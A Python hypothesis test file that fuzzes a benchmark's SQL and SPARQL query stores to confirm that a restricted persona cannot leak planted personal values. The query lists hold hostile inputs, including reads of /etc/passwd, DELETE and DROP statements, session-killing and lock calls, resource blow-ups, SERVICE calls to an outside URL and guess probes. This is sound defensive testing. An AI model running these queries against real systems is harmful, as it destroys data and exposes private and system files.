"""Fuzzing the stores as the model reaches them, with hypothesis: hostile queries composed from
the attack classes of the audit (whole-row, struct, positional and alias references, table
functions, string-built identifiers, error-message and yes/no probes, SERVICE placements,
parser-differential syntax, comments, case and unicode wrapping, batches, nesting) and, on
SQL, of issue 32 (a query ending its own session, advisory locks, functions that run SQL text,
result blow-ups by unnest, repeat and cross joins), at least 2,000 per engine — DuckDB,
PostgreSQL, rdflib, Oxigraph — against a test pack whose personal columns hold planted
sentinel values.

For the restricted persona, every example asserts: no sentinel appears in the text the model
sees, the result, the answer record or the MCP log line (beyond what the query itself said);
a probe answers a true guess exactly as a false one; the sentinel HTTP server gets no request;
the query ends inside its deadline and leaves no thread behind (a killed worker is gone). On
SQL also: the wall from the query's arrival to its answer is within the deadline + 1 s, the
engine's worker stays under its memory cap, and the next query is answered as before (on
PostgreSQL, with no advisory lock left behind). At the end of each engine's run the database
and graph files hash as before. Hypothesis has no deadline and no health check that load can
fail (the suite runs on a loaded two-core machine): the walls asserted are derived from the
deadline the test sets, not performance claims.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import threading
import time
from contextlib import nullcontext
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from peaks import Lateness, PeakRss, address_space_limit
from sentinel_http import SentinelServer

from pytest_kgbench.agents.support.mcp_server import log_line
from pytest_kgbench.asking.tools import call_tool
from pytest_kgbench.engines.stores import open_store
from pytest_kgbench.engines.worker import WORKER_MEMORY
from pytest_kgbench.packs.build import build_variant
from pytest_kgbench.packs.schema import find_pack
from pytest_kgbench.scoring.answers import Answer

EXAMPLES = int(os.environ.get("KGBENCH_FUZZ_EXAMPLES", "2000"))
TIMEOUT = 5.0       # the graph stores' deadline
PAIR_ATTEMPTS = 4   # a probe pair asked again when one side stopped at its deadline
SQL_TIMEOUT = 2.0   # the SQL stores': a blow-up costs at most this (and a worker's restart)
PROBE = "\u00a7GUESS\u00a7"  # where a probe puts its guess of a withheld value
ECHO = f"SELECT * FROM contacts c NATURAL JOIN (SELECT '{PROBE}' AS email) g"  # found by the
#      fuzz on PostgreSQL: the guess echoed in a cell, which tells nothing about the data
N = 6
EMAILS = [f"sntnl{i:03d}.qx@leak.invalid" for i in range(N)]
PHONES = [f"+999 {i:03d} 7337 sntnl" for i in range(N)]
DECOYS = ["sntnl999.qx@leak.invalid", "+999 999 7337 sntnl"]
MARKERS = ("sntnl", "lntns", "leak.invalid", "dilavni.kael", "736e746e6c")


def tokens(i: int) -> list[str]:
    """What is unique to sentinel `i`, as it is and transformed (reversed, hex)."""
    plain = [f"sntnl{i:03d}", f"{i:03d} 7337"]
    return plain + [t[::-1] for t in plain] + [t.encode().hex() for t in plain]
FUZZ = settings(max_examples=EXAMPLES, deadline=None, database=None,
                suppress_health_check=list(HealthCheck))

PACK_YAML = """
name: sentinel
title: Sentinel contacts (test data, planted values)
variants:
  base: {}
tables:
  issuers:
    primary_key: issuer_id
    columns: {issuer_id: VARCHAR, legal_name: VARCHAR}
  contacts:
    primary_key: contact_id
    columns: {contact_id: VARCHAR, issuer_id: VARCHAR, name: VARCHAR, role: VARCHAR,
              email: VARCHAR, phone: VARCHAR}
personal:
  contacts: [email, phone]
personas:
  analyst: {reads_personal: false}
  privacy_officer: {reads_personal: true}
rdf:
  vocab: cr
  prefixes:
    cr: "https://kgbench.example/credit/def#"
    cri: "https://kgbench.example/credit/id/"
  tables:
    issuers: {class: cr:Issuer, subject: "cri:issuer/{issuer_id}"}
    contacts:
      class: cr:Contact
      subject: "cri:contact/{contact_id}"
      columns:
        issuer_id: {predicate: cr:issuer, ref: "cri:issuer/{issuer_id}"}
executed:
  function: "executed:executed_tables"
  tables:
    contacts:
      columns: {contact_id: VARCHAR, name: VARCHAR, email: VARCHAR, phone: VARCHAR}
"""

EXECUTED_PY = '''
def executed_tables(tables):
    return {"contacts": [{k: r[k] for k in ("contact_id", "name", "email", "phone")}
                         for r in tables["contacts"]]}
'''


@pytest.fixture(scope="module")
def sentinel_built(tmp_path_factory: pytest.TempPathFactory):
    """A tiny test pack whose personal columns hold the planted sentinels."""
    root = tmp_path_factory.mktemp("sentinel-pack")
    pack_dir = root / "datasets" / "sentinel"
    (pack_dir / "data").mkdir(parents=True)
    (root / "ontology" / "sentinel").mkdir(parents=True)
    (pack_dir / "pack.yaml").write_text(PACK_YAML)
    (pack_dir / "__init__.py").write_text("")
    (pack_dir / "executed.py").write_text(EXECUTED_PY)
    (pack_dir / "data" / "issuers.csv").write_text(
        "issuer_id,legal_name\nISS-1,Alpha plc\nISS-2,Beta AG\n")
    rows = [f"CT-{i},ISS-{1 + i % 2},Person {i},{('treasury', 'investor relations')[i % 2]},"
            f"{EMAILS[i]},{PHONES[i]}" for i in range(N)]
    (pack_dir / "data" / "contacts.csv").write_text(
        "contact_id,issuer_id,name,role,email,phone\n" + "\n".join(rows) + "\n")
    pack = find_pack("sentinel", root / "datasets", root / "ontology")
    built = build_variant(pack, "base", root / "cache")
    assert {r["email"] for r in built.tables["contacts"]} == set(EMAILS)
    return built


def _hashes(built) -> dict[str, str]:
    return {str(p.relative_to(built.dir)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(built.dir.rglob("*")) if p.is_file()}


# --- strategies -------------------------------------------------------------------------------

def _cased(text: str, how: str) -> str:
    return {"lower": text.lower(), "upper": text.upper(), "keep": text}[how]


def wrapped(statements: st.SearchStrategy[str], comment: str, nest: Any) -> Any:
    """A statement wrapped the ways a guard reading text gets fooled: comments, case,
    unicode spaces, batches, nesting."""
    @st.composite
    def build(draw: Any) -> str:
        q = draw(statements)
        q = _cased(q, draw(st.sampled_from(["keep", "keep", "lower", "upper"])))
        for _ in range(draw(st.integers(0, 2))):
            how = draw(st.integers(0, 6))
            if how == 0:
                q = f"{comment[0]} {draw(st.text(max_size=8))!r} {comment[1]}{q}"
            elif how == 1:
                q = f"{q} {comment[0]} x{comment[1]}"
            elif how == 2:
                q = q.replace(" ", draw(st.sampled_from(["\u00a0", "\u2003", "\t", "\n", "  "])),
                              1)
            elif how == 3:
                q = draw(st.sampled_from([f"SELECT 1; {q}", f"{q}; DELETE FROM contacts",
                                          f"{q};;", f"{q} ; {q}"]))
            elif how == 4:
                q = nest(q, draw(st.integers(1, 70)))
            elif how == 5:
                q = q.replace("e", draw(st.sampled_from(["\u0435", "\u200be", "E"])), 1)
            else:
                q = draw(st.sampled_from(["", " ", "\ufeff"])) + q
        return q

    return build()


SQL_TARGETS = ["c", "to_json(c)", "c::VARCHAR", "c['email']", "c['phone']", "unnest(c)",
               "#5", "#6", "email", "phone", '"email"', "EMAIL", "c.email", "c.*",
               "struct_extract(c, 'email')", "COLUMNS('e.*')", "*", "hex(c::VARCHAR)",
               "upper(c::VARCHAR)", "reverse(c::VARCHAR)", "list_value(c)", "e", "p",
               "(c::VARCHAR)::INTEGER", "CAST(c AS DOUBLE)", "count(*)", "md5(c::VARCHAR)",
               "string_agg(c::VARCHAR, '|')", "c.name", f"'{PROBE}' = ANY(list_value(c.*))",
               "max(length(c::VARCHAR))", "getvariable('v')", "current_setting('threads')"]
SQL_SOURCES = ["contacts c", "contacts AS c(a, b, n, r, e, p)", "contacts AS c",
               "(SELECT * FROM contacts) c", "query_table('contacts') c",
               "query('SELECT em' || 'ail FROM contacts') c",
               "pragma_storage_info('contacts') c", "duckdb_columns() c",
               "information_schema.columns c", "read_csv('/etc/passwd') c",
               f"contacts c NATURAL JOIN (SELECT '{PROBE}' AS email) g",
               "contacts c, LATERAL (SELECT c.email) l", "(FROM contacts) c",
               "contacts c JOIN issuers i USING (issuer_id)", "'{url}/x.csv' c",
               "read_parquet('{url}/x.parquet') c", "'{full}' c", "contacts c USING SAMPLE 50%"]
SQL_FILTERS = ["", " WHERE c::VARCHAR LIKE '%@%'", f" WHERE email = '{PROBE}'",
               f" WHERE contains(c::VARCHAR, '{PROBE}')", f" WHERE c::VARCHAR ILIKE '%{PROBE}%'",
               " LIMIT 3", " ORDER BY 1", " GROUP BY ALL", f" HAVING max(c::VARCHAR) > '{PROBE}'"]
SQL_WHOLE = ["PRAGMA storage_info('contacts')", "SET threads = 8", "RESET memory_limit",
             "SET VARIABLE v = (SELECT max(c::VARCHAR) FROM contacts c)",
             "CALL pragma_table_info('contacts')", "COPY contacts TO '/tmp/kgbench-fuzz.csv'",
             "ATTACH '{full}' AS f", "ATTACH '{full}' AS f; SELECT * FROM f.contacts",
             "EXPORT DATABASE '/tmp/kgbench-fuzz'", "UPDATE EXTENSIONS", "INSTALL httpfs",
             "LOAD httpfs", "DESCRIBE contacts", "SUMMARIZE contacts", "SHOW ALL TABLES",
             "WITH d AS (DELETE FROM contacts RETURNING *) SELECT * FROM d",
             "DELETE FROM contacts", "UPDATE contacts SET name = 'x'", "CHECKPOINT",
             "DROP TABLE contacts", "CREATE TABLE t AS SELECT 1", "EXPLAIN ANALYZE SELECT 1",
             "SELECT * FROM glob('/*')", "SELECT * FROM read_text('/etc/hostname')",
             "FROM contacts", "SELECT 1"]


LOCK_KEY = 0x6B6762656E6368  # the PostgreSQL loader's advisory lock (engines/postgres.py)
# issue 32: what a query may try against the engine itself, quickly
SQL_ENGINE_ATTACKS = [
    "SELECT pg_terminate_backend(pg_backend_pid())",            # its own session ended
    "SELECT pg_cancel_backend(pg_backend_pid())",
    "SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity",
    "SELECT pg_terminate_backend(pg_backend_pid()) FROM contacts",
    f"SELECT pg_advisory_lock({LOCK_KEY})",                    # a lock past the rollback
    "SELECT pg_try_advisory_lock(1), pg_advisory_lock_shared(2)",
    "SELECT pg_advisory_xact_lock(3) FROM contacts",
    "SELECT query_to_xml('SELECT email FROM contacts', true, true, '')",  # SQL text run
    "SELECT database_to_xml(true, true, '')",
    "SELECT table_to_xml('contacts', true, true, '')",
    "SELECT xpath('//email', query_to_xml('SELECT * FROM contacts', true, true, ''))",
    "SELECT * FROM query('SELECT email FROM contacts')",
    "SELECT query_table('contacts')",
    "SELECT lo_creat(-1), lo_import('/etc/passwd')",
    "SELECT pg_notify('kgbench', 'x'), txid_current()",
    "SELECT set_config('statement_timeout', '0', false)",
    "SELECT current_setting('data_directory')",
    "SELECT pg_sleep(30)",
]
# issue 32: results built past the engine's limits (each costs up to SQL_TIMEOUT)
SQL_BLOWUPS = [
    "SELECT unnest(range(50000000)) AS n",
    "SELECT unnest(generate_series(1, 50000000)) AS n",
    "SELECT repeat('x', 1000000000) AS x",
    "SELECT repeat('x', 1000000) AS x FROM generate_series(1, 100000)",
    "SELECT string_agg(CAST(x AS VARCHAR), ',') AS s FROM generate_series(1, 300000000) t(x)",
    "SELECT count(*) FROM contacts a, contacts b, contacts c, contacts d, contacts e, "
    "contacts f, contacts g, contacts h, contacts i, contacts j, contacts k, contacts l",
    "SELECT * FROM generate_series(1, 100000000) a, generate_series(1, 100000000) b",
    "SELECT a.name, repeat(b.role, 100000) FROM contacts a, contacts b, contacts c, contacts d",
]


@st.composite
def sql_statements(draw: Any) -> str:
    # one value in 120 draws a blow-up, 10 an engine attack, 24 a whole-row reference, the
    # rest a composed query. Hypothesis draws the ends of a range far more often than its
    # middle (0 about one draw in five): the blow-ups, each costing up to SQL_TIMEOUT, take a
    # value from the middle, and 0 goes to the engine attacks (every blow-up is also an
    # explicit example on every SQL engine, `every_engine_attack`)
    which = draw(st.integers(0, 119))
    if which == 60:
        return draw(st.sampled_from(SQL_BLOWUPS))
    if which < 10:
        return draw(st.sampled_from(SQL_ENGINE_ATTACKS))
    if which < 34:
        return draw(st.sampled_from(SQL_WHOLE))
    target = draw(st.sampled_from(SQL_TARGETS))
    q = f"SELECT {target} FROM {draw(st.sampled_from(SQL_SOURCES))}"
    return q + draw(st.sampled_from(SQL_FILTERS))


def _nest_sql(q: str, depth: int) -> str:
    return "SELECT * FROM (" * depth + q + ") t" * depth


SPARQL_PATTERNS = ["?s ?p ?o", "?s cr:email ?o", "?s <https://kgbench.example/credit/def#phone> ?o",
                   "?s !(a|cr:name|cr:role) ?o", "?s ?p ?o FILTER(CONTAINS(STR(?o), '@'))",
                   "?s ?p ?o FILTER(REGEX(STR(?o), 'sn.nl', 'i'))",
                   "BIND(IRI(CONCAT(STR(cr:), 'em', 'ail')) AS ?p) ?s ?p ?o",
                   "?s cr:email|cr:phone ?o", "?i ^cr:issuer/cr:email ?o",
                   "?s (cr:email|!a)* ?o", f"?s ?p '{PROBE}'", f"?s ?p ?o FILTER(?o = '{PROBE}')",
                   f"?s ?p ?o FILTER(STRSTARTS(STR(?o), SUBSTR('{PROBE}', 1, 5)))",
                   "?s a cr:Contact ; ?p ?o", "GRAPH ?g { ?s ?p ?o }",
                   "SERVICE <{url}/sparql> { ?s ?p ?o }",
                   "OPTIONAL { SERVICE <{url}/sparql> { ?s ?p ?o } }",
                   "?s ?p ?o FILTER EXISTS { SERVICE <{url}/sparql> { ?s ?q ?r } }",
                   "?s ?p ?o MINUS { SERVICE SILENT <{url}/sparql> { ?s ?p ?o } }",
                   "GRAPH ?g { SERVICE ?x { ?s ?p ?o } }",
                   "{ SELECT * WHERE { SERVICE <{url}/sparql> { ?s ?p ?o } } }",
                   "SERVICE <file:///etc/passwd#> { ?s ?p ?o }",
                   "\\u0053ERVICE <{url}/sparql> { ?s ?p ?o }",
                   "?s ?p ?o LATERAL { SELECT ?o WHERE { } }", "?s ?p ?o FILTER(isTRIPLE(?o))",
                   "?s ?p 'x'@en-US--ltr", "<<( ?s ?p ?o )>> ?q ?r"]
SPARQL_FORMS = ["SELECT * WHERE {{ {p} }}", "SELECT ?o WHERE {{ {p} }}",
                "SELECT DISTINCT ?o WHERE {{ {p} }} LIMIT 20", "ASK {{ {p} }}",
                "SELECT (GROUP_CONCAT(STR(?o)) AS ?x) WHERE {{ {p} }}",
                "SELECT (COUNT(*) AS ?n) WHERE {{ {p} }}",
                "CONSTRUCT {{ ?s ?p ?o }} WHERE {{ {p} }}",
                "DESCRIBE ?s WHERE {{ {p} }}", "SELECT * FROM <{url}/g> WHERE {{ {p} }}",
                'VERSION "1.2" SELECT * WHERE {{ {p} }}', "DELETE WHERE {{ {p} }}",
                "INSERT DATA {{ <x:a> <x:b> 'c' }}", "LOAD <{url}/data.ttl>", "CLEAR ALL",
                "SELECT ?o WHERE {{ {p} }} ORDER BY DESC(?o)"]


@st.composite
def sparql_statements(draw: Any) -> str:
    form = draw(st.sampled_from(SPARQL_FORMS))
    pattern = draw(st.sampled_from(SPARQL_PATTERNS))
    prefix = draw(st.sampled_from(["PREFIX cr: <https://kgbench.example/credit/def#>\n", ""]))
    return prefix + form.replace("{p}", pattern).replace("{{", "{").replace("}}", "}")


def _nest_sparql(q: str, depth: int) -> str:
    head, brace, rest = q.partition("{")
    return head + brace + "{" * depth + rest + "}" * depth if brace else q


SQL_QUERIES = wrapped(sql_statements(), ("/*", "*/"), _nest_sql)
SPARQL_QUERIES = wrapped(sparql_statements(), ("#", "\n"), _nest_sparql)


# --- the check --------------------------------------------------------------------------------

class Harness:
    """One store under fuzz, with the sentinel server and the baseline it is held to.
    `slack`: seconds past the store's deadline a query's answer may take (the kill of a worker
    and the reply); `canary`: a query run after each example, whose answer must not change;
    `loader`: on PostgreSQL, the loader's connection, to see no advisory lock is left."""

    def __init__(self, executor: Any, built: Any, sentinel: SentinelServer, *,
                 slack: float = 2.0, canary: str | None = None, loader: Any = None) -> None:
        self.executor = executor
        self.built = built
        self.sentinel = sentinel
        self.slack = slack
        self.canary = canary
        self.loader = loader
        self.expected = executor.run(canary).rows if canary else None
        self.threads = threading.active_count()
        self.full = str(built.duckdb_path)
        self.examples = 0
        self.refused = 0
        self.retried = 0  # probe pairs asked again after a side stopped at its deadline
        self.seconds = 0.0

    def fill(self, template: str) -> str:
        """The template with the sentinel server's address, the full database's path, and
        the probe's slot whatever case a wrapper gave it."""
        for variant in {"{url}", "{URL}"}:
            template = template.replace(variant, self.sentinel.url)
        for variant in {"{full}", "{FULL}"}:
            template = template.replace(variant, self.full)
        return re.sub(re.escape(PROBE), PROBE, template, flags=re.IGNORECASE)

    def once(self, query: str, guess: int | None) -> tuple[Any, ...]:
        """Run one query; a probe's `guess` is the index of the sentinel it names (or of the
        decoy). Without one, no sentinel mark may appear at all; with one, the query's own
        words may come back (an error message quoting it), so every other sentinel's own
        tokens must not."""
        worker = getattr(self.executor, "worker", None)
        if worker is not None:
            worker.ready()  # a worker replaced after a kill loads first: not the query's time
        pid = worker.pid if worker is not None else None
        # a store in this process has no worker whose memory to watch
        watch = PeakRss(lambda: [worker.pid]) if worker is not None else nullcontext(None)
        with watch as peak, Lateness(after=self.executor.timeout) as late:
            started = time.monotonic()
            text, result = call_tool(self.executor, "run_query", {"query": query})
            spent = time.monotonic() - started
        assert result is not None
        # past the deadline, the time the machine held this process back is not the engine's
        # (a CI run with two CPU-bound processes beside it saw 8.2 s for a 5 s deadline)
        assert spent <= self.executor.timeout + self.slack + late.seconds, (query, spent,
                                                                           late.seconds)
        assert peak is None or peak.most <= WORKER_MEMORY, (query, peak.peaks)
        record = json.dumps(Answer(text=text, queries=[result]).to_dict(), ensure_ascii=False)
        blob = text + record + log_line("run_query", {"query": query}, text, result)
        blob = blob.replace(query, "§").casefold()
        marks = (MARKERS if guess is None else
                 [t for i in range(N) if i != guess for t in tokens(i)])
        leaked = [m for m in marks if m.casefold() in blob]
        assert not leaked, (query, leaked, result.to_dict())
        assert not self.sentinel.requests, (query, self.sentinel.requests)
        # no thread left behind by the query (threads other tests of this process started may
        # end meanwhile: the count can fall, never rise); a deadline's timer thread, cancelled,
        # may take a moment to end on a loaded machine (CI saw 44 for 43): one left behind
        # never does
        settled = time.monotonic() + 10.0
        while threading.active_count() > self.threads and time.monotonic() < settled:
            time.sleep(0.005)
        assert threading.active_count() <= self.threads, (query, [
            t.name for t in threading.enumerate()])
        self.threads = threading.active_count()
        if worker is not None and worker.pid != pid and pid is not None:
            assert not Path(f"/proc/{pid}").exists(), "a killed worker outlived its deadline"
        self.refused += bool(result.refused)
        self.after(query)
        said = [EMAILS[guess], PHONES[guess]] if guess is not None and guess < N else DECOYS
        error = (result.error or "").split("\nLINE ")[0]  # DuckDB quoting the query back

        def own_words(text: str) -> str:  # the guess the query itself spelt, as "§"
            for word in said:
                text = text.replace(word, "§").replace(word[:12], "§")
            return text

        # a cell may echo the guess too (SELECT '<guess>' AS email): the query's own words,
        # not an answer to it; every other cell, the row count and the columns are compared
        rows = [[own_words(v) if isinstance(v, str) else v for v in row]
                for row in result.rows or []]
        return (result.columns, rows, result.refused, own_words(error), result.timed_out)

    def after(self, query: str) -> None:
        """No later query affected: the canary answers as before, no lock is left."""
        if self.canary is not None:
            again = self.executor.run(self.canary)
            assert again.ok and again.rows == self.expected, (query, again.error)
        if self.loader is not None:
            held = self.loader.execute("SELECT count(*) FROM pg_locks WHERE locktype = "
                                       "'advisory' AND granted").fetchone()[0]
            assert held == 0, query

    def check(self, template: str) -> None:
        self.examples += 1
        started = time.monotonic()
        query = self.fill(template)
        if PROBE in query:
            true = self.examples % N
            for attempt in range(PAIR_ATTEMPTS):  # noqa: B007 - the count is reported below
                answers = [self.once(query.replace(PROBE, EMAILS[true]), true),
                           self.once(query.replace(PROBE, DECOYS[0]), 999)]
                if answers[0] == answers[1]:
                    break
                # a side stopped at its deadline (or its worker starved) on a loaded machine
                # is the machine, not the data: the pair is asked again; a difference the
                # data makes comes back every time
                if not any(a[4] or a[3] for a in answers):
                    break
                self.retried += 1
            assert answers[0] == answers[1], ("the probe tells a true guess from a false one",
                                              query, attempt + 1)
        else:
            self.once(query, None)
        self.seconds += time.monotonic() - started


@pytest.fixture(scope="module")
def sentinel():
    with SentinelServer() as server:
        yield server


def _harness(built, sentinel, where: str, engine: str | None, loader: Any = None) -> Harness:
    sql = where != "sparql"
    engines = ({"sql" if sql else "sparql": engine} if engine else None)
    store = open_store(built, where, "analyst", engines=engines,
                       timeout=SQL_TIMEOUT if sql else TIMEOUT)
    if not sql:
        return Harness(store, built, sentinel)
    assert store.info and address_space_limit(store.worker.pid) == WORKER_MEMORY
    return Harness(store, built, sentinel, slack=1.0, loader=loader,
                   canary="SELECT count(*) AS n, min(name) AS first FROM contacts")


@pytest.fixture(scope="module")
def duckdb_raw(sentinel_built, sentinel):
    h = _harness(sentinel_built, sentinel, "sql", None)
    before = _hashes(sentinel_built)
    yield h
    h.executor.close()
    assert _hashes(sentinel_built) == before
    assert h.examples >= EXAMPLES  # hypothesis ran them all


@pytest.fixture(scope="module", params=["rdflib", "oxigraph"])
def graph(request, sentinel_built, sentinel):
    h = _harness(sentinel_built, sentinel, "sparql", request.param)
    assert h.executor.info
    before = _hashes(sentinel_built)
    yield h
    h.executor.close()
    assert _hashes(sentinel_built) == before


def every_engine_attack(test: Any) -> Any:
    """Each of issue 32's SQL classes as an explicit example (hypothesis also draws them)."""
    for template in (*SQL_ENGINE_ATTACKS, *SQL_BLOWUPS):
        test = example(template=template)(test)
    return test


@pytest.mark.slow
@FUZZ
@given(template=SQL_QUERIES)
@example(template=ECHO)
@every_engine_attack
def test_fuzz_duckdb(duckdb_raw, template: str) -> None:
    duckdb_raw.check(template)


@pytest.fixture(scope="module")
def duckdb_executed(sentinel_built, sentinel):
    h = _harness(sentinel_built, sentinel, "executed", None)
    yield h
    h.executor.close()


@settings(FUZZ, max_examples=200)
@given(template=SQL_QUERIES)
def test_fuzz_duckdb_executed_tables(duckdb_executed, template: str) -> None:
    duckdb_executed.check(template)


@pytest.fixture(scope="module")
def postgres_raw(sentinel_built, sentinel, pg_server):
    """The same store on PostgreSQL: the full data is in the server, the analyst's role may
    read none of the personal columns (engines/postgres.py)."""
    import psycopg

    dsn = pg_server.database()
    with psycopg.connect(dsn, autocommit=True) as loader:
        h = _harness(sentinel_built, sentinel, "sql", f"postgres={dsn}", loader=loader)
        before = _hashes(sentinel_built)
        yield h
        h.executor.close()
    assert _hashes(sentinel_built) == before
    assert h.examples >= EXAMPLES  # hypothesis ran them all


@pytest.mark.slow
@FUZZ
@given(template=SQL_QUERIES)
@example(template=ECHO)
@example(template=f"SELECT count(*) FROM contacts WHERE email = '{PROBE}'")
@every_engine_attack
def test_fuzz_postgres(postgres_raw, template: str) -> None:
    postgres_raw.check(template)


@pytest.mark.slow
@FUZZ
@given(template=SPARQL_QUERIES)
def test_fuzz_graph(graph, template: str) -> None:
    graph.check(template)


def test_the_fuzz_ran_and_the_sentinels_are_there_to_find(sentinel_built, sentinel) -> None:
    """The fuzz is only worth its examples if a leak would show: the privacy officer's stores
    hold the sentinels, and the same queries find them there."""
    for where, query in (("sql", "SELECT c::VARCHAR FROM contacts c"),
                         ("sparql", "SELECT ?o WHERE { ?s ?p ?o }")):
        ex = open_store(sentinel_built, where, "privacy_officer")
        text, _ = call_tool(ex, "run_query", {"query": query})
        assert "sntnl" in text.casefold(), where
        ex.close()


@pytest.mark.parametrize("language", ["sql", "sparql"])
def test_the_checks_catch_a_store_that_holds_the_data(sentinel_built, sentinel,
                                                      language: str) -> None:
    """The bug the fuzz guards against, planted: the analyst's guard in front of the full
    data (the store not built without it). The same checks then fail."""
    from pytest_kgbench.engines.sparql import SparqlExecutor
    from pytest_kgbench.engines.sql import SqlExecutor
    from pytest_kgbench.engines.stores import guard_for

    guard = guard_for(sentinel_built, "analyst")
    full = sentinel_built.files("full")
    if language == "sql":
        ex: Any = SqlExecutor.open(full.duckdb, sentinel_built.pack.tables, guard)
        routes = ["SELECT c FROM contacts c", f"SELECT count(*) FROM contacts c WHERE "
                                              f"contains(c::VARCHAR, '{PROBE}')"]
    else:
        ex = SparqlExecutor.over("default", [(full.data, full.data_format)], guard)
        routes = ["SELECT ?o WHERE { ?s ?p ?o }", f"ASK {{ ?s ?p '{PROBE}' }}"]
    h = Harness(ex, sentinel_built, sentinel, slack=1.0)
    for route in routes:
        with pytest.raises(AssertionError):
            h.check(route)
    ex.close()
